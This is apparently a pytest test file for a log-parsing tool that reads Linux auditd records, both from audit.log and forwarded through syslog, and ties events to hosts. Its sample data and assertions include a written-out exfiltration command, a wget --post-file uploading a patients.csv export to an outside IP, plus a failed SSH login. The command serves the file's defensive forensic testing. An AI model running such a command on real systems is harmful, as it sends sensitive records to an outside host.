"""Linux audit records (audit.log, or forwarded to syslog by audispd), one event per record."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from rempart.inventory import Resolver, load_group

from .conftest import read_all, rows


def test_audit_records(fixtures: Path) -> None:
    table, report = read_all([fixtures / "audit.log"])
    got = rows(table)
    assert [r["Type"] for r in got] == [
        "SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "USER_LOGIN", "EXECVE"]
    assert {(r["_product"], r["_service"], r["_format"]) for r in got} == {("linux", "auditd", "auditd")}
    syscall, execve, cwd, path, title, login, forwarded = got
    assert syscall["_ts"] == datetime(2026, 11, 28, 9, 2, 11, 123000, tzinfo=UTC)
    assert (syscall["serial"], syscall["exe"], syscall["comm"], syscall["key"]) == (
        "4242", "/usr/bin/wget", "wget", "susp_activity")
    # the interpreted values, and a SYSCALL record's a3 as written (a register, not hexadecimal text)
    assert (syscall["SYSCALL"], syscall["AUID"], syscall["a3"]) == ("execve", "c.martin", "1000")
    assert (execve["a0"], execve["a1"], execve["a2"]) == (  # a1 written in hexadecimal: it holds a space
        "wget", "--post-file=/var/lib/dpi/export patients.csv", "http://203.0.113.9/up")
    assert (cwd["cwd"], path["name"], path["OUID"]) == ("/root", "/usr/bin/wget", "root")
    assert title["proctitle"] == "wget --post-file=/var/lib/dpi/export patients.csv http://203.0.113.9/up"
    assert (login["op"], login["acct"], login["addr"], login["res"], login["exe"]) == (
        "login", "admin", "203.0.113.7", "failed", "/usr/sbin/sshd")
    assert forwarded["_host"] == "tls-cap-dpi01" and syscall["_host"] is None
    assert [(q.record, q.reason.split(" (")[0]) for q in report.quarantined] == [(8, "not an audit record")]


def test_audit_records_forwarded_to_syslog(fixtures: Path, tmp_path: Path) -> None:
    syscall, execve = (fixtures / "audit.log").read_text().split("\n")[:2]  # splitlines() cuts at \x1d too
    syscall = syscall.replace("\x1d", "#035")  # rsyslog escapes the control character so
    head = "Nov 28 09:22:11 tls-cap-dpi01 audispd: node=tls-cap-dpi01"
    (tmp_path / "messages").write_text("".join(f"{head} {record}\n" for record in (syscall, execve)))
    first, second = rows(read_all([tmp_path / "messages"], reference_year=2026)[0])
    assert (first["_service"], first["Type"], first["SYSCALL"], first["AUID"]) == (
        "auditd", "SYSCALL", "execve", "c.martin")
    assert (second["_service"], second["Type"], second["a1"]) == (
        "auditd", "EXECVE", "--post-file=/var/lib/dpi/export patients.csv")
    assert second["_ts"] == datetime(2026, 11, 28, 9, 2, 11, 123000, tzinfo=UTC)  # the record's own time


def test_records_naming_no_host_take_the_server_folder_they_were_collected_in(
    example_group_path: Path, fixtures: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "collecte-2026-11-28" / "tls-cap-dpi01" / "var" / "log" / "audit"
    folder.mkdir(parents=True)
    (folder / "audit.log").write_bytes((fixtures / "audit.log").read_bytes())
    (folder / "messages").write_text(  # an event that names its host is attributed by it, not by the folder
        "Nov 28 10:00:00 somewhere-else sshd[1]: Invalid user x from 203.0.113.7\n")
    table, report = read_all([tmp_path], Resolver(load_group(example_group_path)), reference_year=2026)
    got = rows(table)
    audit = [r for r in got if r["_service"] == "auditd"]
    assert {(r["_establishment"], r["_asset"]) for r in audit} == {("capitouls", "tls-cap-dpi01")}
    assert [r["_host"] for r in audit].count(None) == 6  # the log did not say: it stays unsaid
    (other,) = [r for r in got if r["_service"] != "auditd"]
    assert other["_establishment"] is None and report.unattributed_hosts == {"somewhere-else": 1}
